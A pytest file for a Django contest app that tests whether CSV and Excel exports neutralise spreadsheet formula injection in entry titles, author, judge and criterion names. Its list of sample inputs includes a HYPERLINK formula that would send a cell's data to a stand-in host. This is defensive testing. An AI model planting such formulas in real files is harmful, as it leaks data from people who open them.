"""Formula injection (issue 17) in every file a contest's outcome leaves in: the entries,
scores and results workbooks, the winners' captions (csv and txt) and ``laurel contest
results``. Titles and names that a spreadsheet would run come back as text starting with
``'``, no cell is a formula, and numbers and dates in the same files stay numbers and dates.

``judged_contest`` (tests/awards/conftest.py): entry 0 is the best, and entries 0–5 win.
"""

import csv
import datetime
import io
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from laurel.awards import services
from laurel.awards.management.commands.contest import results_csv
from laurel.core.snapshots import SNAPSHOT_FIELDS

# what a prober types into a title or a name (each also tried in another field)
INJECTIONS = ['=HYPERLINK("http://x?d="&C2,"x")', "+1+1", "-2+3", "@SUM(A1)"]


@pytest.fixture
def injected(judged_contest):
    """Entries 0–3 titled with an injection each; their authors named with the next one;
    the first judge and the criterion named with one too."""
    for n, entry in enumerate(judged_contest.test_entries[:4]):
        entry.title = INJECTIONS[n]
        entry.save(update_fields=["title"])
        entry.author.name = INJECTIONS[(n + 1) % 4]
        entry.author.save(update_fields=["name"])
    judge = judged_contest.test_judges[0]
    judge.display_name = "=1+1"
    judge.save(update_fields=["display_name"])
    judged_contest.test_round.criteria.update(name="@SUM(A1)")
    return judged_contest


def workbook_cells(response):
    """Every cell of the download's only sheet (loaded in full: each cell's data type)."""
    assert response.status_code == 200, response.status_code
    workbook = load_workbook(io.BytesIO(response.content))
    assert len(workbook.worksheets) == 1
    return [list(row) for row in workbook.worksheets[0].iter_rows()]


def assert_neutralised(cells, texts) -> None:
    values = {cell.value for row in cells for cell in row}
    assert all(cell.data_type != "f" for row in cells for cell in row)
    for text in texts:
        assert "'" + text in values
        assert text not in values
    for cell in (cell for row in cells for cell in row):
        if isinstance(cell.value, str) and cell.value.startswith("'"):
            assert cell.data_type == "s"


def export(client, contest, kind: str):
    return client.get(reverse("awards:console_export", args=[contest.slug, kind]))


def test_the_entries_workbook_neutralises_titles_and_names(injected, client_as):
    cells = workbook_cells(export(client_as("federation_admin"), injected, "entries"))

    assert_neutralised(cells, INJECTIONS)
    row = next(row for row in cells if row[0].value == injected.test_entries[2].code)
    assert row[1].value == "'-2+3"  # the title
    assert row[5].value == "'@SUM(A1)"  # the author
    assert isinstance(row[10].value, datetime.datetime)  # submitted: still a date and time


def test_the_scores_workbook_neutralises_judges_and_criteria(injected, client_as):
    cells = workbook_cells(export(client_as("federation_admin"), injected, "scores"))

    assert_neutralised(cells, ["=1+1", "@SUM(A1)"])
    header = [cell.value for cell in cells[0]]
    assert "'@SUM(A1)" in header  # the criterion's column
    column = header.index("'@SUM(A1)")
    judged = [row for row in cells[1:] if row[2].value == "'=1+1"]
    assert len(judged) == 12  # the first judge's reviews
    for row in judged:
        assert isinstance(row[column].value, int)  # the score: a number
        assert row[column].data_type == "n"


def test_the_results_workbook_neutralises_titles_and_names(injected, client_as, users):
    services.awards_propose(acting_user=users["federation_admin"], contest=injected)

    cells = workbook_cells(export(client_as("federation_admin"), injected, "results"))

    assert_neutralised(cells, INJECTIONS)
    first = cells[1]
    assert [first[0].value, first[2].value, first[3].value] == [1, "'" + INJECTIONS[0], "'+1+1"]
    assert isinstance(first[7].value, int | float)  # the score (9.0 reads back as 9)
    assert first[7].data_type == "n"


def test_the_winners_captions_neutralise_titles_and_names(injected, client_as, users):
    organiser = users["federation_admin"]
    services.awards_propose(acting_user=organiser, contest=injected)
    services.results_publish(acting_user=organiser, contest=injected)

    response = client_as("federation_admin").get(
        reverse("awards:console_originals_zip", args=[injected.slug])
    )

    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(csv.reader(io.StringIO(archive.read("captions.csv").decode("utf-8-sig"))))
    cells = {cell for row in rows for cell in row}
    for text in INJECTIONS:
        assert "'" + text in cells
        assert text not in cells
    lines = archive.read("captions.txt").decode("utf-8").splitlines()
    assert "'+1+1 · " + injected.test_entries[0].unit.name in lines  # the author's line
    assert not any(line.startswith(("=", "+", "-", "@")) for line in lines)


def test_contest_results_csv_neutralises_titles_and_keeps_scores_numbers(injected, users):
    services.awards_propose(acting_user=users["federation_admin"], contest=injected)
    out = io.StringIO()

    call_command("contest", "results", injected.slug, stdout=out)

    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    titles = {row["title"] for row in rows}
    authors = {row["author"] for row in rows}
    for text in INJECTIONS:
        assert "'" + text in titles
        assert "'" + text in authors
        assert text not in titles | authors
    assert rows[0]["title"] == "'" + INJECTIONS[0]
    assert [int(row["rank"]) for row in rows] == list(range(1, 13))
    assert all(1 <= float(row["score"]) <= 10 for row in rows)  # plain numbers


def test_a_negative_score_in_the_results_csv_stays_a_number():
    row = dict.fromkeys(SNAPSHOT_FIELDS, "")
    row.update(rank=1, entry="0001", title="-2+3", score="-0.5000", low=None, high="0.2500")

    [header, line] = results_csv([row]).splitlines()

    assert header == ",".join(SNAPSHOT_FIELDS)
    assert line == "1,0001,'-2+3,,,,-0.5000,,0.2500,"
